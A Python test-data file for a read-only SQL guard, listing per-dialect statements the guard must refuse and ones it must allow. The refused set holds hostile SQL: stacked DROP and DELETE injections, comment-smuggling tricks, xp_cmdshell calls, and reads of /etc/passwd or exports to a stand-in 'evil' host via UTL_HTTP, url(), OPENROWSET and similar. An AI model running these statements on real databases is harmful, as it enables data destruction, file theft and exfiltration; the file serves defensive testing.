"""Statements for engines that no server can be had of here, by the parser's name for their SQL.

The guard stands alone before them in the tests, so it has to refuse every one that is hostile. ⏎ stands for a line's end.
"""

HOSTILE_EVERYWHERE = """
    INSERT INTO orders (id) VALUES (9)
    UPDATE orders SET status = 'gone'
    DELETE FROM orders
    TRUNCATE TABLE orders
    DROP TABLE orders
    CREATE TABLE mine (x int)
    CREATE TABLE mine AS SELECT * FROM orders
    CREATE VIEW v AS SELECT 1
    ALTER TABLE orders ADD x int
    MERGE INTO orders o USING orders p ON o.id = p.id WHEN MATCHED THEN DELETE
    GRANT ALL ON orders TO public
    SELECT 1; DROP TABLE orders
    SELECT 1; SELECT 2
    BEGIN; DELETE FROM orders; COMMIT
    COMMIT
    SELECT 'a' /* ; */; DELETE FROM orders
    SELECT * FROM orders FOR UPDATE
    CALL launch()
    SELECT my_own_function(1)
    SELECT other.lower_case(1)
    SELECT * FROM no_such_table_function(1)
    SELECT 'open
    SELECT /* open
"""

HOSTILE = {
    "tsql": """
        SELECT 1 SHUTDOWN
        SELECT 1 AS x SHUTDOWN
        SELECT id FROM orders CHECKPOINT
        SELECT id FROM orders EXEC('DROP TABLE orders')
        SELECT id FROM orders EXECUTE('DROP TABLE orders')
        SELECT id FROM orders RECONFIGURE
        SELECT 1 COMMIT
        SELECT INTERVAL '1' SHUTDOWN
        SELECT id COLLATE SHUTDOWN FROM orders
        SELECT 1 'one' SHUTDOWN
        SELECT id FROM orders ORDER BY id SHUTDOWN
        SELECT id FROM orders GROUP BY id HAVING 1 = 1 SHUTDOWN
        SELECT id FROM orders WHERE status IN ('a') SHUTDOWN
        SELECT id FROM orders UNION SELECT 1 SHUTDOWN
        SELECT CASE WHEN 1 = 1 THEN 1 END SHUTDOWN
        SELECT * FROM (SELECT 1 AS a) b SHUTDOWN
        SELECT 1 DELETE FROM orders
        SELECT 1⏎GO⏎SHUTDOWN
        SELECT 1 ROLLBACK
        SELECT 1 REVERT
        SELECT id FROM orders o KILL
        SELECT 1 RETURN
        EXEC xp_cmdshell 'whoami'
        EXEC('DROP TABLE orders')
        EXECUTE AS USER = 'dbo'
        xp_cmdshell 'whoami'
        sp_configure
        SELECT * INTO mine FROM orders
        SELECT * FROM OPENROWSET(BULK '/etc/passwd', SINGLE_CLOB) AS x
        SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1')
        SELECT * FROM OPENQUERY(evil, 'SELECT 1')
        SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').master.dbo.t
        SELECT * FROM evil.shop.dbo.orders
        SELECT * FROM master..sysdatabases
        SELECT * FROM master.dbo.spt_values
        SELECT * FROM msdb.dbo.sysjobs
        SELECT * FROM sys.sql_logins
        SELECT * FROM sys.dm_exec_sql_text(0x01)
        SELECT * FROM fn_trace_gettable('/tmp/x.trc', 1)
        SELECT @@VERSION
        DECLARE @x int = 1
        SELECT @x = 1
        SELECT id FROM orders WITH (TABLOCKX)
        SELECT id FROM orders OPTION (MAXRECURSION 0)
        SELECT NEXT VALUE FOR seq
        WAITFOR DELAY '0:0:50'
        BACKUP DATABASE shop TO DISK = '/tmp/x'
        BULK INSERT orders FROM '/etc/passwd'
        DBCC SHRINKDATABASE (shop)
        SELECT "id" FROM orders
        SELECT [a]]; DROP TABLE orders --] FROM [t
        IF 1 = 1 DROP TABLE orders
        WHILE 1 = 1 SELECT 1
        USE master
        SET NOCOUNT ON
        GO
    """,
    "oracle": """
        BEGIN DBMS_OUTPUT.PUT_LINE('x'); END;
        DECLARE x NUMBER; BEGIN DELETE FROM orders; END;
        SELECT UTL_HTTP.REQUEST('http://evil') FROM dual
        SELECT UTL_INADDR.GET_HOST_ADDRESS('evil') FROM dual
        SELECT HTTPURITYPE('http://evil').GETCLOB() FROM dual
        SELECT DBMS_XMLGEN.GETXML('SELECT 1 FROM dual') FROM dual
        SELECT DBMS_PIPE.RECEIVE_MESSAGE('x', 50) FROM dual
        SELECT launch.rockets FROM dual
        SELECT evil.launch.rockets FROM dual
        SELECT seq.NEXTVAL FROM dual
        SELECT s.NEXTVAL FROM dual s
        SELECT * FROM orders@remote
        SELECT * FROM orders AS OF TIMESTAMP SYSDATE - 1, evil@remote
        SELECT q'[it's]' FROM dual
        SELECT nq'!it's!' FROM dual
        SELECT /*+ FULL(orders) */ id FROM orders
        SELECT * FROM v$session
        SELECT * FROM gv$sql
        SELECT * FROM dba_users
        SELECT * FROM sys.user$
        SELECT * FROM system.secrets
        SELECT * FROM TABLE(DBMS_XPLAN.DISPLAY)
        SELECT * FROM TABLE(my_function(1))
        SELECT XMLTYPE(BFILENAME('DIR', 'passwd'), 1) FROM dual
        SELECT EXTRACTVALUE(XMLTYPE('<!DOCTYPE a [<!ENTITY b SYSTEM "http://evil">]><a/>'), '/a') FROM dual
        SELECT SYS_CONTEXT('USERENV', 'DB_NAME') FROM dual
        SELECT CURSOR(SELECT 1 FROM dual) FROM dual
        WITH FUNCTION f RETURN NUMBER IS BEGIN RETURN 1; END; SELECT f FROM dual
        EXPLAIN PLAN FOR SELECT * FROM orders
        ALTER SESSION SET sql_trace = TRUE
        ALTER SYSTEM FLUSH SHARED_POOL
        LOCK TABLE orders IN EXCLUSIVE MODE
        SELECT SYS_EVAL('id') FROM dual
        SELECT * FROM a.b.c.d
    """,
    "clickhouse": """
        SELECT * FROM url('http://evil', 'CSV', 'a String')
        SELECT * FROM file('/etc/passwd', 'LineAsString')
        SELECT * FROM s3('https://evil/x.csv')
        SELECT * FROM remote('evil', 'db', 't')
        SELECT * FROM remoteSecure('evil', 'db', 't')
        SELECT * FROM mysql('evil:3306', 'db', 't', 'u', 'p')
        SELECT * FROM postgresql('evil:5432', 'db', 't', 'u', 'p')
        SELECT * FROM mongodb('evil', 'db', 't', 'u', 'p', 'x String')
        SELECT * FROM jdbc('x', 't')
        SELECT * FROM odbc('x', 't')
        SELECT * FROM hdfs('hdfs://evil/x', 'CSV')
        SELECT * FROM cluster('c', db.t)
        SELECT * FROM executable('x.sh', 'CSV', 'a String')
        SELECT * FROM input('a String')
        SELECT * FROM merge('system', '.*')
        SELECT * FROM sqlite('/tmp/x.db', 't')
        SELECT file('/etc/passwd')
        SELECT dictGet('d', 'a', 1)
        SELECT getSetting('x')
        SELECT sleep(3)
        SELECT sleepEachRow(3) FROM orders
        SELECT throwIf(1)
        SELECT hostName()
        SELECT addressToLine(1)
        SELECT catboostEvaluate('/tmp/x', 1)
        SELECT * FROM system.query_log
        SELECT * FROM system.users
        SELECT id FROM orders SETTINGS readonly = 0
        SELECT id FROM orders SETTINGS max_execution_time = 0, readonly = 0
        SELECT id FROM orders INTO OUTFILE '/tmp/out'
        SELECT id FROM orders FORMAT Native
        INSERT INTO FUNCTION url('http://evil', 'CSV', 'a String') SELECT 'x'
        SYSTEM SHUTDOWN
        KILL QUERY WHERE 1
        OPTIMIZE TABLE orders FINAL
        ATTACH TABLE x
        SET readonly = 0
        SELECT 1 # ; DROP TABLE orders
        SELECT 1 /* /* */ -- */ , file('x')
        SELECT $$x$$
        SELECT ‘ , file('/etc/passwd') , ’
        SELECT 'a\\' , file('/etc/passwd'), '
        SELECT 1 AS `a\\` , file('x') , `b`
        SHOW CREATE TABLE orders
        DESCRIBE TABLE url('http://evil')
        EXPLAIN SELECT 1
    """,
    "snowflake": """
        SELECT SYSTEM$CANCEL_QUERY('x')
        SELECT SYSTEM$WAIT(50)
        SELECT $1 FROM @stage
        SELECT $1 FROM @~/x.csv
        SELECT * FROM @%orders
        SELECT $secret
        SET secret = (SELECT 1)
        SELECT GET_DDL('table', 'orders')
        SELECT * FROM TABLE(RESULT_SCAN('x'))
        SELECT * FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY())
        SELECT * FROM SNOWFLAKE.ACCOUNT_USAGE.QUERY_HISTORY
        SELECT * FROM TABLE(my_function(1))
        SELECT seq.NEXTVAL
        SELECT CURRENT_ACCOUNT()
        SELECT AI_COMPLETE('model', 'words')
        SELECT SNOWFLAKE.CORTEX.COMPLETE('model', 'words')
        SELECT my_external_function('x')
        COPY INTO @stage FROM orders
        COPY INTO orders FROM @stage
        PUT file:///etc/passwd @stage
        GET @stage file:///tmp/
        LIST @stage
        USE ROLE ACCOUNTADMIN
        UNDROP TABLE orders
        EXECUTE IMMEDIATE 'DROP TABLE orders'
        EXECUTE IMMEDIATE $$DROP TABLE orders$$
        SHOW TABLES
        DESCRIBE TABLE orders
        ALTER SESSION SET QUERY_TAG = 'x'
        SELECT $$a$$ || $$ ; DROP TABLE orders
        SELECT 1 // remark⏎; DROP TABLE orders
        SELECT GET_PRESIGNED_URL('x', 'y')
        SELECT * FROM evil.db.shop.orders.x
    """,
    "bigquery": """
        SELECT * FROM EXTERNAL_QUERY('c', 'SELECT 1')
        SELECT * FROM ML.PREDICT(MODEL m, (SELECT 1))
        SELECT * FROM ML.GENERATE_TEXT(MODEL m, (SELECT 1))
        SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS
        SELECT * FROM p.`region-us`.INFORMATION_SCHEMA.JOBS_BY_PROJECT
        SELECT * FROM `region-us`.INFORMATION_SCHEMA.SESSIONS_BY_USER
        SELECT @@session_id
        SELECT @secret
        SELECT KEYS.NEW_KEYSET('AEAD_AES_GCM_256')
        SELECT AEAD.DECRYPT_STRING(k, x, 'y') FROM orders
        SELECT NET.HOST('http://evil')
        SELECT my_dataset.my_function(1)
        SELECT `p.d.remote_function`(1)
        SELECT * FROM my_table_function(1)
        SELECT ERROR('x')
        DECLARE x INT64
        SET x = 1
        EXECUTE IMMEDIATE 'DROP TABLE orders'
        EXPORT DATA OPTIONS (uri = 'gs://evil/*.csv') AS SELECT 1
        LOAD DATA INTO orders FROM FILES (uris = ['gs://evil/x'])
        CREATE TEMP FUNCTION f() AS (1); SELECT f()
        CREATE MODEL m OPTIONS (model_type = 'x') AS SELECT 1
        ASSERT 1 = 1
        BEGIN SELECT 1; END
        SELECT '''a''' , 'b\\' , '''c
        SELECT 1 # ; DROP⏎; DROP TABLE orders
        SELECT \"\"\"a\"\" ; DROP TABLE orders
        SELECT `a\\` , EXTERNAL_QUERY('c', 'x') , `b`
        CREATE SNAPSHOT TABLE x CLONE orders
    """,
}

HARMLESS = {
    "tsql": """
        SELECT TOP 5 id, total FROM orders ORDER BY total DESC
        SELECT TOP (5) PERCENT id FROM orders
        SELECT [id], [o].[status] FROM [dbo].[orders] AS [o]
        SELECT [Unit Price] FROM [Order Details]
        SELECT [a]]b] FROM [t]
        SELECT id FROM shop.dbo.orders
        SELECT id FROM orders ORDER BY id OFFSET 10 ROWS FETCH NEXT 5 ROWS ONLY
        SELECT YEAR(created_at), MONTH(created_at), DATEPART(quarter, created_at), EOMONTH(created_at) FROM orders
        SELECT DATEADD(day, -7, GETDATE()), DATEDIFF(day, created_at, SYSDATETIME()) FROM orders
        SELECT FORMAT(created_at, 'yyyy-MM'), CONVERT(VARCHAR(10), created_at, 120) FROM orders
        SELECT ISNULL(note, ''), COALESCE(note, N'无'), NULLIF(status, ''), IIF(total > 5, 1, 0) FROM orders
        SELECT TRY_CAST(note AS INT), CAST(total AS DECIMAL(10, 2)), LEN(note), CHARINDEX('a', note) FROM orders
        SELECT STRING_AGG(status, ', ') WITHIN GROUP (ORDER BY status) FROM orders
        SELECT JSON_VALUE(note, '$.a') FROM orders
        SELECT o.id, x.n FROM orders o CROSS APPLY (SELECT COUNT(*) AS n FROM customers c WHERE c.id = o.customer_id) x
        SELECT o.id FROM orders o OUTER APPLY (SELECT TOP 1 name FROM customers c WHERE c.id = o.customer_id) x
        SELECT PERCENTILE_CONT(0.5) WITHIN GROUP (ORDER BY total) OVER (PARTITION BY status) FROM orders
        SELECT status, SUM(total) FROM orders GROUP BY ROLLUP (status)
        SELECT * FROM (SELECT status, total FROM orders) s PIVOT (SUM(total) FOR status IN ([paid], [new])) p
        SELECT table_name FROM INFORMATION_SCHEMA.TABLES
        SELECT N'DROP TABLE orders', 'SHUTDOWN', '-- no remark'
        SELECT 1 /* one /* inside */ another */
    """,
    "oracle": """
        SELECT SYSDATE, SYSTIMESTAMP, USER FROM dual
        SELECT id FROM orders WHERE ROWNUM <= 5
        SELECT id FROM orders FETCH FIRST 5 ROWS ONLY
        SELECT o.id, c.name FROM orders o, customers c WHERE o.customer_id = c.id(+)
        SELECT NVL(note, '-'), NVL2(note, 1, 0), DECODE(status, 'paid', 1, 0), COALESCE(note, '-') FROM orders
        SELECT TO_CHAR(created_at, 'YYYY-MM'), TRUNC(created_at, 'MM'), ADD_MONTHS(created_at, 1) FROM orders
        SELECT MONTHS_BETWEEN(SYSDATE, created_at), EXTRACT(YEAR FROM created_at), LAST_DAY(created_at) FROM orders
        SELECT TO_DATE('2024-01-01', 'YYYY-MM-DD') + 7, TO_NUMBER('5'), created_at + INTERVAL '1' DAY FROM orders
        SELECT LISTAGG(status, ', ') WITHIN GROUP (ORDER BY status) FROM orders
        SELECT LEVEL FROM dual CONNECT BY LEVEL <= 5
        SELECT e.id, PRIOR e.id FROM employees e START WITH e.boss IS NULL CONNECT BY PRIOR e.id = e.boss
        SELECT REGEXP_SUBSTR(note, '[a-z]+'), REGEXP_REPLACE(note, ' +', ' '), INSTR(note, 'a') FROM orders
        SELECT MEDIAN(total), STDDEV(total), RATIO_TO_REPORT(total) OVER () FROM orders GROUP BY total
        SELECT id FROM shop.orders MINUS SELECT id FROM shop.returns
        SELECT "Unit Price" FROM "Order Details"
        SELECT JSON_VALUE(note, '$.a') FROM orders
        SELECT table_name FROM user_tables
        SELECT DATE '2024-01-01', TIMESTAMP '2024-01-01 10:00:00' FROM dual
    """,
    "clickhouse": """
        SELECT toStartOfMonth(created_at), toYYYYMM(created_at), formatDateTime(created_at, '%Y-%m') FROM orders
        SELECT uniq(status), uniqExact(status), quantile(0.5)(total), quantiles(0.1, 0.9)(total) FROM orders
        SELECT countIf(total > 5), sumIf(total, status = 'paid'), avgIf(total, total > 0) FROM orders
        SELECT argMax(status, total), groupArray(status), groupUniqArray(status), topK(3)(status), any(status) FROM orders
        SELECT dateDiff('day', created_at, now()), today(), yesterday(), addDays(created_at, 1) FROM orders
        SELECT status, count() FROM orders GROUP BY status WITH TOTALS
        SELECT id FROM orders LIMIT 1 BY status
        SELECT id FROM orders ORDER BY id LIMIT 5 OFFSET 1
        SELECT id FROM orders PREWHERE total > 5 WHERE status = 'paid'
        SELECT id FROM orders FINAL
        SELECT arrayJoin([1, 2, 3]), arrayMap(x -> x * 2, [1, 2]), arraySum([1, 2]), has([1], 1), length([1])
        SELECT splitByChar(',', 'a,b'), replaceAll('aa', 'a', 'b'), positionCaseInsensitive('aB', 'b'), lower('A')
        SELECT toInt64('5'), toFloat64OrNull('x'), toDecimal64(1.5, 2), toString(5), '5'::Int8, CAST('5' AS UInt8)
        SELECT if(total > 5, 'big', 'small'), multiIf(total > 100, 'a', total > 10, 'b', 'c') FROM orders
        SELECT number FROM numbers(10)
        SELECT JSONExtractString('{"a": "b"}', 'a'), JSONExtractInt('{"a": 1}', 'a')
        SELECT domain('http://a.b/c'), cityHash64('x'), hex('x'), base64Encode('x')
        SELECT o.id FROM orders o ANY LEFT JOIN customers c ON c.id = o.customer_id
        SELECT map('a', 1)['a'], tuple(1, 'a').2, mapKeys(map('a', 1))
        WITH 5 AS least SELECT id FROM orders WHERE total > least
        SELECT `Unit Price`, "Unit Price" FROM `Order Details`
        SELECT rowNumberInAllBlocks(), bar(5, 0, 10, 5)
        SELECT table_name FROM INFORMATION_SCHEMA.TABLES
        SELECT toStartOfInterval(created_at, INTERVAL 1 week), created_at + INTERVAL 1 DAY FROM orders
        SELECT 'it\\'s; DROP TABLE orders'
    """,
    "snowflake": """
        SELECT id FROM orders QUALIFY ROW_NUMBER() OVER (PARTITION BY status ORDER BY total) = 1
        SELECT DATE_TRUNC('month', created_at), DATEADD(day, 1, created_at), DATEDIFF(day, created_at, CURRENT_DATE) FROM orders
        SELECT TO_VARCHAR(created_at, 'YYYY-MM'), TO_DATE('2024-01-01'), TRY_TO_NUMBER(note), TO_NUMBER('5') FROM orders
        SELECT IFF(total > 5, 1, 0), NVL(note, '-'), ZEROIFNULL(total), NULLIF(status, ''), DECODE(status, 'a', 1) FROM orders
        SELECT LISTAGG(status, ', ') WITHIN GROUP (ORDER BY status), ARRAY_AGG(status), OBJECT_AGG(status, 1) FROM orders
        SELECT note:a.b::STRING, PARSE_JSON(note):a[0] FROM orders
        SELECT o.id, f.value FROM orders o, LATERAL FLATTEN(INPUT => o.items) f
        SELECT MEDIAN(total), APPROX_COUNT_DISTINCT(status), PERCENTILE_CONT(0.5) WITHIN GROUP (ORDER BY total) FROM orders
        SELECT * EXCLUDE (note) FROM orders
        SELECT * FROM (SELECT status, total FROM orders) PIVOT (SUM(total) FOR status IN ('paid', 'new'))
        SELECT TOP 5 id FROM orders
        SELECT id FROM orders LIMIT 5 OFFSET 2
        SELECT id FROM shop.public.orders SAMPLE (10)
        SELECT id FROM orders AT (OFFSET => -60)
        SELECT SPLIT_PART(note, ',', 1), REGEXP_REPLACE(note, 'a', 'b'), CONTAINS(note, 'a'), STARTSWITH(note, 'a') FROM orders
        SELECT $$DROP TABLE orders$$, 'a\\'; DROP TABLE orders; --'
        SELECT id FROM orders // all of them; DROP TABLE orders
        SELECT "Unit Price" FROM "Order Details"
        SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS t (x, y)
        SELECT table_name FROM INFORMATION_SCHEMA.TABLES
        SELECT id FROM orders WHERE status ILIKE ANY ('a%', 'b%')
        SELECT RATIO_TO_REPORT(total) OVER () FROM orders
    """,
    "bigquery": """
        SELECT DATE_TRUNC(created_at, MONTH), FORMAT_DATE('%Y-%m', created_at), EXTRACT(YEAR FROM created_at) FROM orders
        SELECT DATE_DIFF(CURRENT_DATE(), created_at, DAY), DATE_ADD(created_at, INTERVAL 1 DAY), PARSE_DATE('%Y', '2024') FROM orders
        SELECT TIMESTAMP_DIFF(CURRENT_TIMESTAMP(), created_at, HOUR), TIMESTAMP_TRUNC(created_at, DAY) FROM orders
        SELECT SAFE_DIVIDE(total, 0), COUNTIF(total > 5), APPROX_COUNT_DISTINCT(status), IFNULL(note, '-') FROM orders
        SELECT ARRAY_AGG(status ORDER BY total DESC LIMIT 3), STRING_AGG(status, ', '), ANY_VALUE(status) FROM orders
        SELECT o.id, item FROM orders o, UNNEST(o.items) AS item
        SELECT id, x FROM orders CROSS JOIN UNNEST([1, 2, 3]) AS x WITH OFFSET AS place
        SELECT STRUCT(1 AS a, 'b' AS c).a, [1, 2][OFFSET(0)]
        SELECT * EXCEPT (note) FROM orders
        SELECT * REPLACE (UPPER(status) AS status) FROM orders
        SELECT id FROM orders QUALIFY ROW_NUMBER() OVER (PARTITION BY status ORDER BY total) = 1
        SELECT * FROM (SELECT status, total FROM orders) PIVOT (SUM(total) FOR status IN ('paid', 'new'))
        SELECT * FROM `my-project.shop.orders`
        SELECT * FROM `my-project`.shop.orders
        SELECT * FROM `my-project.shop.events_*` WHERE _TABLE_SUFFIX = '20240101'
        SELECT id FROM orders TABLESAMPLE SYSTEM (10 PERCENT)
        SELECT REGEXP_EXTRACT(note, r'[a-z]+'), REGEXP_CONTAINS(note, 'a'), SPLIT(note, ','), TO_HEX(MD5(note)) FROM orders
        SELECT JSON_VALUE(note, '$.a'), TO_JSON_STRING(note), SAFE_CAST(note AS INT64) FROM orders
        SELECT '''it's; DROP TABLE orders''', \"\"\"a "b" c\"\"\"
        SELECT "DROP TABLE orders" # all of them
        SELECT GENERATE_UUID(), SESSION_USER()
        SELECT table_name FROM shop.INFORMATION_SCHEMA.TABLES
        SELECT APPROX_QUANTILES(total, 4), PERCENTILE_CONT(total, 0.5) OVER () FROM orders
    """,
}
DIALECTS = tuple(HOSTILE)


def _lines(text: str) -> list[str]:
    return [line.strip().replace("⏎", "\n") for line in text.strip().split("\n") if line.strip()]


def hostile(dialect: str) -> list[str]:
    return [*_lines(HOSTILE_EVERYWHERE), *_lines(HOSTILE[dialect])]


def harmless(dialect: str) -> list[str]:
    return _lines(HARMLESS[dialect])
